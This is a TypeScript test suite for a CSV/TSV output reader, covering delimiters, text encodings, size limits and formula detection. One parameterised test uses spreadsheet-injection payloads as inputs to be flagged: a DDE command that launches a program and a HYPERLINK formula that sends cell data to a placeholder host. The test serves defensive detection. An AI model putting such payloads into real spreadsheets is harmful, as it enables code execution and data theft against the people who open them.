import iconv from 'iconv-lite'
import { expect, test } from 'vitest'
import { defaultReadLimits, readOutput } from '../../../../server/adapters/readers/index.ts'

const read = async (content: string | Uint8Array, name = 'out.csv', limits = defaultReadLimits) =>
  await readOutput(typeof content === 'string' ? new TextEncoder().encode(content) : content, name, limits)

test('keeps every row, header rows, margins, footnotes and empty lines included, at its line', async () => {
  const output = await read('year,2010,2010\nsex,F,M\nA,12,15\nTotal,"1,234",15\n\nSource: own calculation\n')
  expect(output).toMatchObject({ format: 'csv', complete: true, notices: [] })
  expect(output.tables).toEqual([{
    sheet: null, firstRow: 1, firstColumn: 1,
    rows: [['year', '2010', '2010'], ['sex', 'F', 'M'], ['A', '12', '15'], ['Total', '1,234', '15'], ['', '', ''], ['Source: own calculation', '', '']],
  }])
})

test.each([
  ['semicolons', 'a;b\n1,5;2\n3,5;4\n', 'out.csv', 'csv'],
  ['tabs', 'a\tb\n1\t2\n', 'out.tsv', 'tsv'],
  ['tabs in a .csv', 'a\tb\n1\t2\n3\t4\n', 'out.csv', 'tsv'],
  ['a table in a .txt', 'a,b\n1,2\n3,4\n', 'out.txt', 'csv'],
  ['a table that calls itself a program', 'a,b\n1,2\n3,4\n', 'out.py', 'csv'],
  ['carriage returns alone', 'a,b\r1,2\r3,4\r', 'out.csv', 'csv'],
])('splits %s', async (_, content, name, format) => {
  const output = await read(content, name)
  expect(output.format).toBe(format)
  expect(output.tables[0]?.rows[0]).toEqual(['a', 'b'])
})

test.each([
  ['UTF-8 with a mark', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('성별,수\n여,12\n')])],
  ['UTF-16LE with a mark', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('성별,수\n여,12\n', 'utf16le')])],
  ['UTF-16BE with a mark', Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from('성별,수\n여,12\n', 'utf16le').swap16()])],
  ['CP949', iconv.encode('성별,수\n여,12\n', 'cp949')],
])('decodes %s and is sure of it', async (_, bytes) => {
  const output = await read(bytes)
  expect(output).toMatchObject({ complete: true, notices: [] })
  expect(output.tables[0]?.rows).toEqual([['성별', '수'], ['여', '12']])
})

test('decodes letters beyond KS X 1001 in CP949', async () => {
  expect((await read(iconv.encode('이름,수\n뷁,12\n', 'cp949'))).tables[0]?.rows[1]).toEqual(['뷁', '12'])
})

test('says when an encoding is a guess', async () => {
  const output = await read(iconv.encode('r\u00e9gion,n\nNord,12\n', 'windows-1252'))
  expect(output.notices).toContainEqual({ notice: 'encoding-guessed', outcome: 'review', where: null, values: { encoding: 'windows-1252' } })
})

test.each(['=1+1', '=cmd|\' /C calc\'!A0', '+SUM(A1:A2)', '-A1+5', '@SUM(A1)', ' =HYPERLINK("http://x/"&A1)'])('notices the formula %s', async (cell) => {
  const output = await read(`a,b\n1,"${cell.replaceAll('"', '""')}"\n`)
  expect(output.notices).toContainEqual({ notice: 'formula', outcome: 'review', where: 'row 2 column 2', values: { row: 2, column: 2 } })
})

test.each(['-', '--', '-3.5', '+12', '-1.2 (-3.4, 1.0)', '-0.5 to 0.3', '-5%', '-1e-05', '-0.31***', '- Male', '=', '-inf'])('takes %s for no formula', async (cell) => {
  expect((await read(`a,b\n1,"${cell}"\n`)).notices).toEqual([])
})

test('is incomplete where a quote does not end', async () => {
  const output = await read('a,b\n"1,2\n3,4\n')
  expect(output.complete).toBe(false)
  expect(output.notices).toContainEqual({ notice: 'not-read', outcome: 'review', where: 'quotes', values: { reason: 'damaged' } })
})

test('stops at the bound on cells and says so', async () => {
  const output = await read('a,b\n'.repeat(50), 'out.csv', { ...defaultReadLimits, cells: 20 })
  expect(output.complete).toBe(false)
  expect(output.notices[0]?.values).toEqual({ reason: 'too-many-cells' })
})

test('is incomplete where zero bytes follow a table', async () => {
  expect(await read('a,b\n1,2\n\0\0\0')).toMatchObject({ format: 'unknown', complete: false })
})
